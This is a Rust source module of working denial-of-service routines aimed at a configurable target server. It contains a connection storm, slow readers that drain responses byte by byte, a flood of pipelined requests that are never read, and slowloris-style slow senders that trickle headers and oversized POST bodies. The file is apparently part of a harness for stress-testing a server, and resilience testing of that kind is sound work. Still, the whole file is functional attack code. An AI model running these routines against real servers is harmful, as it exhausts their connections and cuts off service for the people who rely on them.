//! Attacks with connections alone.

use super::{Target, swarm};
use crate::Client;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// How long the slow wait between bytes.
const SLOWLY: Duration = Duration::from_millis(50);
/// How long somebody who was turned away waits.
const TURNED_AWAY: Duration = Duration::from_millis(20);
/// Requests that are sent in one piece.
const PIPELINED: usize = 64;

fn get(attacker: &Client, path: &str) -> String {
    format!("{}\r\n", attacker.head_of("GET", path))
}

/// Connects as often as possible; some ask for a page and don't wait for it, some say nothing.
pub(super) async fn storm(target: &Target) -> String {
    let count = swarm(target.crowd, &target.stop, |index, count| {
        let (address, attacker) = (target.address.clone(), target.attacker(index));
        async move {
            for round in index.. {
                let Ok(mut stream) = TcpStream::connect(address.now()).await else {
                    count.note(false);
                    tokio::time::sleep(TURNED_AWAY).await;
                    continue;
                };
                count.note(true);
                if round % 2 == 0 {
                    // It may be closed already.
                    let _ = stream.write_all(get(&attacker, "/").as_bytes()).await;
                }
                tokio::time::sleep(SLOWLY * (round % 8) as u32).await;
            }
        }
    });
    let count = count.await;
    format!("{} connections, {} turned away", count.done(), count.refused())
}

/// Asks for pages and reads them byte by byte.
pub(super) async fn slow_readers(target: &Target) -> String {
    let count = swarm(target.crowd, &target.stop, |index, count| {
        let (address, request) = (target.address.clone(), get(&target.attacker(index), &target.victim));
        async move {
            loop {
                let Ok(mut stream) = TcpStream::connect(address.now()).await else {
                    tokio::time::sleep(TURNED_AWAY).await;
                    continue;
                };
                if stream.write_all(request.as_bytes()).await.is_err() {
                    continue;
                }
                while stream.read_u8().await.is_ok() {
                    count.note(true);
                    tokio::time::sleep(SLOWLY).await;
                }
            }
        }
    });
    format!("{} readers, {} bytes read", target.crowd, count.await.done())
}

/// Asks and asks, and never reads an answer.
pub(super) async fn pipelining(target: &Target) -> String {
    let count = swarm(target.crowd, &target.stop, |index, count| {
        let (address, requests) =
            (target.address.clone(), get(&target.attacker(index), "/").repeat(PIPELINED));
        async move {
            loop {
                let Ok(mut stream) = TcpStream::connect(address.now()).await else {
                    tokio::time::sleep(TURNED_AWAY).await;
                    continue;
                };
                while stream.write_all(requests.as_bytes()).await.is_ok() {
                    count.note(true);
                }
                count.note(false);
            }
        }
    });
    let count = count.await;
    format!("{} requests, {} connections cut", count.done() * PIPELINED as u64, count.refused())
}

/// Sends heads and bodies byte by byte.
pub(super) async fn slow_senders(target: &Target) -> String {
    let count = swarm(target.crowd, &target.stop, |index, count| {
        let address = target.address.clone();
        let head = get(&target.attacker(index), "/");
        let body = format!("{}{}", head.replace("GET / ", "POST /code "), "x".repeat(2_000));
        let body = body.replace("\r\n\r\n", "\r\nContent-Length: 4000\r\n\r\n");
        async move {
            let request = if index % 2 == 0 { head } else { body };
            loop {
                let Ok(mut stream) = TcpStream::connect(address.now()).await else {
                    tokio::time::sleep(TURNED_AWAY).await;
                    continue;
                };
                for byte in request.bytes() {
                    if stream.write_u8(byte).await.is_err() {
                        count.note(false);
                        break;
                    }
                    count.note(true);
                    tokio::time::sleep(SLOWLY).await;
                }
            }
        }
    });
    let count = count.await;
    format!("{} senders, {} bytes, {} connections cut", target.crowd, count.done(), count.refused())
}
